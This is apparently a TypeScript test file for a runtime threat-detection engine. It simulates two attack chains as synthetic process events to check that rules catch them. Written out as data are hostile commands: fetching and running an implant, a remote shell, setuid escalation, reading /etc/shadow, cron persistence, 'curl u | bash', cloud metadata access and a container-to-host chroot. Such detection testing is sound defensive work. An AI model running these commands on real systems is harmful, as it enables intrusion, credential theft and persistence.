import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { credentialsOf, O } from '@ringfence/synthetic';
import { builtIn, EXEC, judge, NOBODY, REMOTE, Scene } from './support.ts';

const WRITE = O.WRONLY | O.CREAT | O.TRUNC;

/** Tactics of the rules that matched, warnings and worse. */
function tacticsOf(scene: Scene): Set<string> {
  const { rules } = builtIn();
  const matched = judge(scene).filter(({ priority }) => !['informational', 'notice'].includes(priority));
  return new Set(matched.flatMap(({ rule }) => rules.find(({ name }) => name === rule)?.tactics ?? []));
}

describe('a whole attack', () => {
  it('from a hole in a web server to a cron job is seen in six tactics', () => {
    const s = new Scene();
    const httpd = s.exec(s.startContainer({ image: 'shop:1' }), '/opt/shop/httpd', NOBODY);
    const sh = s.start(['sh', '-c', 'test -f x.png; curl …'], httpd, {}, '/usr/bin/dash');
    s.start('/usr/bin/id', sh);
    s.open(s.start('/usr/bin/curl -s -o /tmp/.x http://127.0.0.1:4444/implant', sh), '/tmp/.x', WRITE);
    const implant = s.start('/tmp/.x -c x', sh);
    s.connect(implant, '127.0.0.1', 4444);
    s.exec(implant, '/usr/bin/bash', REMOTE);
    s.start('/usr/bin/id', implant, REMOTE);
    const raised = { ...credentialsOf(65534), euid: 0, suid: 0, fsuid: 0 };
    s.exec(implant, '/opt/shop/backup-helper', { ...REMOTE, flags: EXEC.setuid, credentials: raised });
    s.open(s.start('/usr/bin/cat /etc/shadow', implant, REMOTE), '/etc/shadow');
    s.open(implant, '/etc/cron.d/update', WRITE);
    const tactics = [
      'initial-access',
      'command-and-control',
      'execution',
      'privilege-escalation',
      'credential-access',
      'persistence',
    ];
    const seen = tacticsOf(s);
    assert.deepEqual(
      tactics.filter((tactic) => !seen.has(tactic)),
      [],
    );
  });

  it('from a container to its host is seen', () => {
    const s = new Scene();
    const java = s.startContainer({ image: 'shop:1' }, '/usr/bin/java');
    const sh = s.start(['/bin/sh', '-c', 'curl u | bash'], java);
    s.connect(s.start('/usr/bin/curl u', sh), '169.254.169.254', 80);
    s.start('/usr/bin/mount /dev/sda1 /mnt', sh);
    s.start('/usr/sbin/chroot /host bash', sh);
    const tactics = ['command-and-control', 'credential-access', 'execution', 'initial-access', 'privilege-escalation'];
    assert.deepEqual([...tacticsOf(s)].sort(), tactics);
  });
});
